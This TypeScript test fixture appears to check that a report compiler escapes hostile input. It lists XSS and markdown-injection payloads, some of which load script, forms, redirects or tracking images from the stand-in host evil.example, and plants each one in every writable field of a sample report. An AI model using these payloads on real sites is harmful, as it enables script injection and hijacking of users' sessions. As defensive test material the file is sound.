/** Texts that would act, were they ever more than text: what an attacker types, in every place of a report where somebody can write. */
import { compileReport, type Report } from "#app/domain/report.ts";
import { inputOf, threeFamilies } from "./sample.ts";

const now = "2026-03-02T13:05:00.000Z";

export const payloads = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "</style><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "--></style><iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=javascript:alert(1)>klik</a>",
  "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<details open ontoggle=alert(1)>",
  "[klik](javascript:alert(1))",
  "[klik](JaVaScRiPt:alert(1))",
  "[klik](java&#x0A;script:alert(1))",
  "[klik](&#106;avascript:alert(1))",
  "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[klik](vbscript:msgbox(1))",
  "[klik](\u0001javascript:alert(1))",
  '[klik](https://example.org "onmouseover=alert(1)")',
  '[klik](https://example.org/"onmouseover="alert(1))',
  "![beeld](javascript:alert(1))",
  "![beeld](https://evil.example/volg.png)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>",
  `${">".repeat(3000)} diep`,
  `${"- ".repeat(3000)} diep`,
  `${"**_".repeat(3000)} diep`,
  `${"[".repeat(3000)}`,
  "\u202e</p>txet\u202c \ud800",
];

/** A report in which this text stands wherever somebody can write: quotes, memos, the region's name and the lead's own texts. */
export function hostileReport(payload: string, audience: "case-team" | "region" = "case-team"): Report {
  const told = threeFamilies.map((one) => ({ ...one, quote: payload, memo: payload }));
  const sections = ["introduction", "one-page", "barriers", "method"] as const;
  return compileReport(
    inputOf(told, {
      region: { key: "region-a", name: payload, practice: true },
      texts: Object.fromEntries(sections.map((section) => [section, payload])),
    }),
    audience,
    now,
  );
}
